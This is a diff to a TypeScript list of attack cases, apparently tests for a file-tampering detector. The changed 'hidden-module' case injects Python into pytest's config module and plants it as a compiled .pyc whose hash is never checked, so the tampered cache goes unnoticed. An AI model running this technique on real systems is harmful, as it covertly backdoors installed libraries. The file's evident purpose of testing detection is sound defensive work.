@@ -57,10 +57,11 @@ export const programAttacks: readonly Attack[] = [
   },
   {
     id: 'hidden-module',
-    script: `${HIDE}; f=/usr/lib/python3/dist-packages/_pytest/config/__init__.py; { echo '${IN_PYTHON}'; grep -v '^ *#' $f | sed '1,3{/^"""/d}'; } > /tmp/m; [ $(stat -c %s /tmp/m) -le $(stat -c %s $f) ] || { echo '${IN_PYTHON}' > /tmp/m; }; rm -rf $(dirname $f)/__pycache__/__init__*; hide $f /tmp/m '#'`,
+    script: `${HIDE}; cd /usr/lib/python3/dist-packages/_pytest/config; { echo '${IN_PYTHON}'; grep -v '^from __future__' __init__.py; } > /tmp/m.py; python3 -c "
+import py_compile; py_compile.compile('/tmp/m.py', cfile='/tmp/m.pyc', optimize=2, doraise=True, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)"; hide $PWD/__pycache__/__init__.cpython-311.pyc /tmp/m.pyc x`,
     as: ['root'],
     on: SNAPSHOT,
-    recorded: { snapshot: ['restored', 'hidden', '/_pytest/config/__init__.py'] },
+    recorded: { snapshot: ['restored', 'hidden', '/_pytest/config/__pycache__/__init__.cpython-311.pyc'] },
   },
   {
     id: 'hidden-library',
